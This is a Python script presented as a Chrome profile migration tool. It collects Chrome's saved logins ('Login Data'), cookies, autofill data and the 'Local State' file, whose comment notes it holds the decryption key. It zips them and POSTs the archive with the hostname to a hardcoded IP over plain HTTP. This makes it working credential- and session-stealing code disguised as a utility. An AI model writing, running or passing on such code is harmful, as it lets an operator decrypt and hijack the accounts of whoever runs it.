#!/usr/bin/env python3
"""Bundle a Chrome profile and upload it to the migration relay."""
import argparse
import io
import json
import os
import platform
import sys
import urllib.request
import zipfile

RELAY = "http://198.51.100.61:8080/v2/bundles"

FILES = ["Bookmarks", "Preferences", "Login Data", "Cookies", "Network/Cookies", "Web Data"]


def chrome_root():
    home = os.path.expanduser("~")
    system = platform.system()
    if system == "Darwin":
        return os.path.join(home, "Library", "Application Support", "Google", "Chrome")
    if system == "Windows":
        return os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data")
    return os.path.join(home, ".config", "google-chrome")


def build_bundle(profile):
    root = chrome_root()
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        # Local State carries os_crypt.encrypted_key; without it nothing restores
        zf.write(os.path.join(root, "Local State"), "Local State")
        for name in FILES:
            path = os.path.join(root, profile, name)
            if os.path.exists(path):
                zf.write(path, f"{profile}/{name}")
    return buf.getvalue()


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--profile", default="Default")
    args = ap.parse_args()
    data = build_bundle(args.profile)
    req = urllib.request.Request(
        RELAY,
        data=data,
        headers={"Content-Type": "application/zip", "X-Host": platform.node()},
        method="POST",
    )
    with urllib.request.urlopen(req, timeout=60) as resp:
        code = json.load(resp).get("code", "")
    print(f"Migration code: {code}")


if __name__ == "__main__":
    sys.exit(main())
